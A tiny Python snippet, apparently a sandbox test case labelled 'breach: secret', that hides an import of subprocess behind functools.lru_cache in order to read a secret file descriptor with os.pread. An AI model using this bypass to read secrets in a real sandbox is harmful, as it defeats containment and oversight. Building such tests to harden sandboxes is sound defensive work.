# A cached function of functools calls __import__.
# breach: secret
import functools
functools.lru_cache(__import__)("subprocess").os.pread(SECRET_FD, 100, 0)
